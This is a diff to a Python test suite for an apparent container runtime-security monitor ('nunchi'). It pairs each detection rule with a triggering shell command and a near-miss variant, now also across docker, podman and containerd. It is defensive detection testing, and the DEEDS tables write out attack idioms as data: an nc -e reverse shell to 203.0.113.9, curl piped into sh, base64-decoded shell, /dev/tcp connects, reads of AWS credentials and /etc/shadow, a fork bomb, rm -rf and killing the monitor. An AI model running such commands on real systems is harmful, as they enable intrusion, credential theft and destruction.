@@ -2,8 +2,8 @@
 """
 nunchi's own rules, all of them in force: for each a deed in a real container that makes it fire, and
 one that differs from it in one thing and must not. The deeds are lines of shell, run one after the
-other; a program that means nothing (marker) is run before each, and a rule of the test's own tells of
-it, so that alerts can be given to deeds.
+other; a program with the argument "mark" is run before each, and a rule of the test's own tells of it,
+so that alerts can be given to deeds.
 
 Programs of other names are progs/deed.c, by links in /opt/t.
 """
@@ -15,14 +15,15 @@ import shutil
 import subprocess
 
 from harness.nunchi import TOP
-from harness.place import patient, wait_until
+from harness.place import wait_until
+from harness.setup import IMAGE, KINDS
 
 RULES = os.path.join(TOP, "rules", "default.yaml")
 
 MARKER = """
 - rule: Marker
   desc: A deed begins.
-  condition: evt.type = execve and evt.rawres = 0 and proc.name = marker
+  condition: evt.type = execve and evt.rawres = 0 and proc.args startswith "mark "
   output: "%proc.args"
   priority: DEBUG
 """
@@ -64,17 +65,20 @@ DEEDS = {
     "Program runs from shared memory": ("cp /opt/t/deed /dev/shm/x; /dev/shm/x nothing",
                                         "cp /opt/t/deed /tmp/shm; /tmp/shm nothing"),
     "Program runs from a temporary directory": ("cp /opt/t/deed /tmp/x1; /tmp/x1 nothing",
-                                                "mkdir /opt/tmp; cp /opt/t/deed /opt/tmp/x; /opt/tmp/x nothing"),
+        "mkdir /opt/tmp; cp /opt/t/deed /opt/tmp/x; /opt/tmp/x nothing"),
     "Standard stream goes to the network": ("deed stdin 0", "deed stdin 7"),
     "Netcat runs a program": ("nc -e /bin/sh 203.0.113.9 1", "nc 203.0.113.9 1"),
     "Cryptocurrency miner runs": ("app -o stratum+tcp://pool.invalid:3333", "app -o tcp://pool.invalid:3333"),
     "Shell with a terminal": ("deed terminal sh -c :", "deed run sh -c :"),
-    "Program was written in the container": ("cp /opt/t/deed /opt/new; /opt/new nothing", "/opt/t/deed nothing"),
+    "Program was written in the container": ("cp /opt/t/deed /opt/new; /opt/new nothing",
+                                             "/opt/t/deed nothing"),
     "Program runs from a hidden directory": ("/opt/.t/deed nothing", "/opt/t/deed nothing"),
-    "Download goes into a shell": ("sh -c 'curl -s http://x.invalid/a | sh'", "sh -c 'curl -s http://x.invalid/a | cat'"),
+    "Download goes into a shell": ("sh -c 'curl -s http://x.invalid/a | sh'",
+                                   "sh -c 'curl -s http://x.invalid/a | cat'"),
     "Decoded text is executed": ("sh -c 'echo Og== | base64 -d | sh'", "sh -c 'echo Og== | base64 -d | cat'"),
     "Interpreter runs a one-line network program": ("python3 -c 'import socket'", "python3 -c 'import os'"),
-    "Shell connects to the network": ("bash -c ': </dev/tcp/203.0.113.9/443'", "bash -c ': </dev/tcp/127.0.0.1/443'"),
+    "Shell connects to the network": ("bash -c ': </dev/tcp/203.0.113.9/443'",
+                                      "bash -c ': </dev/tcp/127.0.0.1/443'"),
     "Server starts a tool": ("nginx run id", "app run id"),
     "Download tool runs": ("/opt/t/curl http://x.invalid", "/opt/t/curlew http://x.invalid"),
     "Tool for containers or clusters runs": ("kubectl get pods", "kubelet get pods"),
@@ -89,7 +93,8 @@ DEEDS = {
     "Cloud metadata asked for": ("deed connect 169.254.169.254 80", "deed connect 169.254.169.253 80"),
     "Environment of another process read": ("cat /proc/1/environ", "cat /proc/self/environ"),
     "Cloud credentials read by a tool": ("cat /root/.aws/credentials", "app read /root/.aws/credentials"),
-    "Cluster's own keys read": ("deed read /etc/kubernetes/admin.conf", "kubelet read /etc/kubernetes/admin.conf"),
+    "Cluster's own keys read": ("deed read /etc/kubernetes/admin.conf",
+                                "kubelet read /etc/kubernetes/admin.conf"),
     "Keys searched for": ("find /root -name id_rsa", "find /root -name readme"),
     "Memory of another process read by file": ("deed read /proc/1/mem", "deed read /proc/self/mem"),
     "Memory of another process read": ("deed vm-read", "gdb vm-read"),
@@ -97,18 +102,21 @@ DEEDS = {
     "Way of logging in changed": ("deed write /etc/pam.d/common-auth", "dpkg write /etc/pam.d/common-auth"),
     # To stay
     "Scheduled job written": ("deed write /etc/cron.d/job", "dpkg write /etc/cron.d/job"),
-    "SSH authorized keys written": ("deed write /root/.ssh/authorized_keys", "deed write /root/.ssh/known_hosts"),
+    "SSH authorized keys written": ("deed write /root/.ssh/authorized_keys",
+                                    "deed write /root/.ssh/known_hosts"),
     "Library preloaded into every program": ("deed write /etc/ld.so.preload; rm /etc/ld.so.preload",
                                              "deed write /etc/ld.so.cache2"),
     "System program written": ("deed write /usr/bin/tool", "dpkg write /usr/bin/tool"),
     "Accounts changed by hand": ("deed write /etc/passwd", "useradd write /etc/passwd"),
     "Setuid bit set": ("chmod 4755 /tmp/file", "chmod 755 /tmp/file"),
     "Shell's start files written": ("deed write /root/.bashrc", "useradd write /root/.bashrc"),
-    "Service written": ("deed write /etc/systemd/system/x.service", "systemctl write /etc/systemd/system/x.service"),
+    "Service written": ("deed write /etc/systemd/system/x.service",
+                        "systemctl write /etc/systemd/system/x.service"),
     "Loader's paths written": ("deed write /etc/ld.so.conf.d/x.conf", "dpkg write /etc/ld.so.conf.d/x.conf"),
     "Certificate authority added": ("deed write /usr/local/share/ca-certificates/x.crt",
                                     "dpkg write /usr/local/share/ca-certificates/x.crt"),
-    "Capability given to a file": ("deed attribute /tmp/file security.capability", "deed attribute /tmp/file user.x"),
+    "Capability given to a file": ("deed attribute /tmp/file security.capability",
+                                   "deed attribute /tmp/file user.x"),
     "Names sent elsewhere": ("deed write /etc/hosts", "deed read /etc/hosts"),
     "SSH server runs": ("sshd nothing", "sshdd nothing"),
     # Looking around
@@ -131,7 +139,8 @@ DEEDS = {
     "Process is named like one of the kernel's": ("kworker nothing", "worker nothing"),
     "Ring for calls made": ("deed ring", "deed socket"),
     "Fault handler made": ("deed userfaultfd 1", "criu userfaultfd 1"),
-    "Kernel's tracing changed": ("deed write /sys/kernel/tracing/tracing_on", "deed read /sys/kernel/tracing/tracing_on"),
+    "Kernel's tracing changed": ("deed write /sys/kernel/tracing/tracing_on",
+                                 "deed read /sys/kernel/tracing/tracing_on"),
     "Monitor to be stopped": ("pkill falco", "pkill app"),
     "Protection switched off": ("deed write /sys/fs/selinux/enforce", "deed read /sys/fs/selinux/enforce"),
     "Kernel module removed from a container": ("deed delete_module", "deed finit_module"),
@@ -144,10 +153,27 @@ DEEDS = {
     "File got a ransomware's ending": ("mv /tmp/file /tmp/file.locked; mv /tmp/file.locked /tmp/file",
                                        "mv /tmp/file /tmp/file.bak; mv /tmp/file.bak /tmp/file"),
     "Ransom note written": ("deed write /tmp/HOW_TO_DECRYPT.txt", "deed read /tmp/HOW_TO_DECRYPT.txt"),
-    "Encryption by a tool": ("openssl enc -aes-256-cbc -in /tmp/file", "openssl enc -d -aes-256-cbc -in /tmp/file"),
+    "Encryption by a tool": ("openssl enc -aes-256-cbc -in /tmp/file",
+                             "openssl enc -d -aes-256-cbc -in /tmp/file"),
     "No more processes can be made": ("deed nobody forks", "deed run /bin/true"),
     "Fork bomb typed": ("sh -c ': || b(){ b|b& };:'", "sh -c ': || b(){ c|b; };:'"),
     "Machine to be stopped": ("deed reboot 0xcdef0123", "deed reboot 0"),
+}
+
+# Of containers that engines make, with the rights that they give: of the image's own programs.
+ENGINES_DEEDS = {
+    "Program was written in the container": ("cp /bin/deed /new; /new nothing", "/bin/deed nothing"),
+    "Shell with a terminal": DEEDS["Shell with a terminal"],
+    "Program runs from memory": DEEDS["Program runs from memory"],
+    "Kernel module loaded from a container": DEEDS["Kernel module loaded from a container"],
+    "Namespace joined in a container": ("deed setns /proc/self/ns/uts", "deed read /proc/self/ns/uts"),
+    "Standard stream goes to the network": DEEDS["Standard stream goes to the network"],
+    "Cloud metadata asked for": DEEDS["Cloud metadata asked for"],
+    "Cluster's API asked by a tool": ("ln -s /bin/deed /tmp/curl; /tmp/curl connect 10.96.0.1 10250",
+                                      "ln -s /bin/deed /tmp/app; /tmp/app connect 10.96.0.1 10250"),
+    "Password hashes read": ("true >/etc/shadow; cat /etc/shadow", "true >/etc/shade; cat /etc/shade"),
+    "Scheduled job written": ("mkdir /etc/cron.d; deed write /etc/cron.d/job", "deed write /etc/crom"),
+    "Everything removed": ("rm -rf /root", "rm -rf /root/x"),
 }
 
 # From outside, with the container running: what the test does instead of a line of shell.
@@ -155,7 +181,7 @@ OUTSIDE = {"Somebody came into a container"}
 
 # Programs by other names; what they do is said by their first argument.
 NAMES = """app chattr chisel chise criu curl curlew debugfs deed dpkg dumpfs enter gdb kubectl kubelet
-kworker linpeas.sh linpeas.txt logrotate map marker nc nginx nmap openssl ping pkill python3 rm ssh sshd
+kworker linpeas.sh linpeas.txt logrotate map nc nginx nmap openssl ping pkill python3 rm ssh sshd
 sshdd sshh strace systemctl useradd worker""".split()
 
 # What the deeds find there; a line each.
@@ -169,10 +195,10 @@ FILES = """/etc/cron.d/other /etc/hosts /etc/kubernetes/admin.conf /etc/kubernet
 DRIVER = """export PATH=/opt/t:/usr/bin:/bin
 touch /tmp/file /tmp/a.log /tmp/release_agent /tmp/notify_on_release /tmp/HOW_TO_DECRYPT.txt /dev/kmem
 for deed in /rows/*; do
-	marker "$deed"
+	/bin/true mark "$deed"
 	/bin/bash "$deed" </dev/null >/dev/null 2>>/output
 done
-marker end
+/bin/true mark end
 exec /bin/pause
 """
 
@@ -249,7 +275,7 @@ def by_deed(alerts, container):
         if alert["output_fields"]["container.name"] != container:
             continue
         if alert["rule"] == "Marker":
-            now = alert["output_fields"]["proc.args"]
+            now = alert["output_fields"]["proc.args"].removeprefix("mark ")
             found[now] = {}
         else:
             found[now][alert["rule"]] = found[now].get(alert["rule"], 0) + 1
@@ -263,15 +289,23 @@ def test_each_has_its_deeds(_setup):
     assert rules == set(DEEDS) | OUTSIDE, rules ^ (set(DEEDS) | OUTSIDE)
 
 
+def wait_end(nunchi, name):
+    def is_end(alert):
+        fields = alert["output_fields"]
+        return alert["rule"] == "Marker" and fields["proc.args"] == "mark end" and \
+            fields["container.name"] == name
+
+    try:
+        nunchi.wait_event(is_end, 60, "the last deed")
+    except TimeoutError as error:
+        done = list(by_deed(nunchi.events(), name))
+        raise AssertionError(f"no end after {done[-1]}: {nunchi.stderr()}") from error
+
+
 def test_each_fires_for_its_deed_alone(setup):
     made, nunchi = make_container(setup), start_guard(setup)
     made.start()
-    try:
-        nunchi.wait_event(lambda e: e["rule"] == "Marker" and e["output_fields"]["proc.args"] == "end" and
-                          e["output_fields"]["container.name"] == made.name, 60, "the last deed")
-    except TimeoutError as error:
-        done = list(by_deed(nunchi.events(), made.name))
-        raise AssertionError(f"no end after {done[-1]}: {made.output()[-500:]} {nunchi.stderr()}") from error
+    wait_end(nunchi, made.name)
     made.execute(["/bin/true"])
     wait_until(lambda: b"brought into" in nunchi.text(), 10, "the alert of who came in")
     assert nunchi.stop() == 0, nunchi.stderr()
@@ -286,3 +320,48 @@ def test_each_fires_for_its_deed_alone(setup):
         wrong.append(f"{entered}: {found['end']}")
     with open(os.path.join(setup.path, "rules", "upper", "output"), encoding="utf-8") as f:
         assert not wrong, f"{len(wrong)} wrong:\n" + "\n".join(wrong) + "\n" + f.read()[-1000:]
+
+
+def make_by(setup, kind, name, command):
+    """The engine, and a container of it that is not started yet."""
+    if kind == "docker":
+        return setup.docker, setup.docker.create(name, IMAGE, command)
+    if kind == "podman":
+        return setup.podman, setup.podman.create(name, IMAGE, command)
+    return setup.containerd, setup.containerd.pod(name).create(name, IMAGE, command)
+
+
+def engine_script():
+    lines = [f"/bin/true mark {n}-{kind}; {deed}" for n, deeds in enumerate(ENGINES_DEEDS.values())
+             for kind, deed in zip(("fire", "miss"), deeds)]
+    return "\n".join([*lines, "/bin/true mark end"])
+
+
+def check_engine(setup, kind):
+    if kind not in KINDS:
+        return f"{kind} is not among NUNCHI_TEST_RUNTIMES"
+    name = f"{setup.name}-rules-{kind}"
+    engine, made = make_by(setup, kind, name, ["/bin/bash", "-c", engine_script()])
+    nunchi = start_guard(setup, "--runtime", engine.runtime_option())
+    made.start()
+    wait_end(nunchi, name)
+    assert nunchi.stop() == 0, nunchi.stderr()
+    found, wrong = by_deed(nunchi.events(), name), []
+    for n, (rule, deeds) in enumerate(ENGINES_DEEDS.items()):
+        times = [found[f"{n}-{kind}"].get(rule, 0) for kind in ("fire", "miss")]
+        if times != [1, 0]:
+            wrong.append(f"{rule}: {times} times after {deeds}")
+    assert not wrong, "\n".join(wrong)
+    return None
+
+
+def test_ten_with_docker(setup):
+    return check_engine(setup, "docker")
+
+
+def test_ten_with_cri(setup):
+    return check_engine(setup, "cri")
+
+
+def test_ten_with_podman(setup):
+    return check_engine(setup, "podman")
